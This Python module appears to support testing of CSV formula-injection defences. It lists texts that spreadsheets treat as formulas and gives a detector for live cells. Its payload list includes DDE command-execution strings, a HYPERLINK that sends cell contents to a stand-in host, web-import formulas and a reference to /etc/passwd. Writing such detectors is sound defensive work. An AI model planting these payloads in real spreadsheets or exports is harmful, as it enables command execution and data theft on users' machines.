"""Texts that a spreadsheet works out as formulas, and a reader that says which cells of a file are live."""

import csv
import io
import re
import unicodedata

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1", "\u3000=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫SUM(1)", "−1+1", "⁺1", "₌1",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\",\"/C calc\",\"x\")", "=MSEXCEL|'\\..\\..\\x'!''",
    "=HYPERLINK(\"https://elsewhere.example/?x=\"&A1,\"看这里\")", "=IMPORTXML(\"https://elsewhere.example\",\"//a\")", "=WEBSERVICE(\"https://elsewhere.example\")",
    "=IMAGE(\"https://elsewhere.example\")", "=IMPORTDATA(\"x\")", "=IMPORTRANGE(\"x\",\"y\")", "='file:///etc/passwd'#$x.A1", "=A1:A9", "==1", "=-1", "+-@=1",
    "王;=1+1", "王;  =1+1", "王\t=1+1", "王\n=1+1", "王\r\n@SUM(1)", "\";=1+1;\"",
    "王\";=1+1", "王\"\n=1+1", "\x00=1+1", "\x0b=1+1", "\u2028=1+1", "\u202e=1+1", "\u2066=1+1",
)  # fmt: skip
#: Texts beside them that no spreadsheet works out as long as the file is written well.
HARMLESS = (
    "王,=1+1", "王|=1+1", "\",=1+1,\"", "\"=1+1\"", "\"\"\"=1+1", "'=1+1", "''=1+1", "‘=1+1", "王\",\"=1+1", "王；=1+1", "%0A=1+1", "——您好", "3-2=1", "a@b.example", "王=李",
)  # fmt: skip
#: Between what a spreadsheet divides a line, whatever the file's maker had in mind; it is chosen by a computer's region.
DELIMITERS = (",", ";", "\t")
_STARTS = "=+-@"
#: A sign that looks like one of the four, and that some programs take for it.
_ALIKE = {"−": "-"}


def is_live(cell: str) -> bool:
    """Say whether a spreadsheet would work a cell out: what comes first, blanks and unseen signs apart, begins a formula."""
    seen = cell.lstrip("".join(sign for sign in set(cell) if unicodedata.category(sign)[0] in "CZ"))
    first = _ALIKE.get(seen[:1], unicodedata.normalize("NFKC", seen[:1]))
    return first[:1] != "" and first[:1] in _STARTS


def is_mere_number(cell: str) -> bool:
    """Say whether a cell is a negative number of the college's own, which a spreadsheet may read as such."""
    return bool(re.fullmatch(r"-?\d+(\.\d+)?", cell))


def cells_of(data: bytes, delimiter: str) -> list[list[str]]:
    """Read a file as a spreadsheet does that divides its lines at `delimiter`."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def live_cells(data: bytes) -> list[str]:
    """Give every cell of a CSV file that would be worked out, whichever sign divides its lines."""
    found = []
    for delimiter in DELIMITERS:
        for line in cells_of(data, delimiter):
            found += [f"{cell!r} at {delimiter!r}" for cell in line if is_live(cell) and not is_mere_number(cell)]
    return found
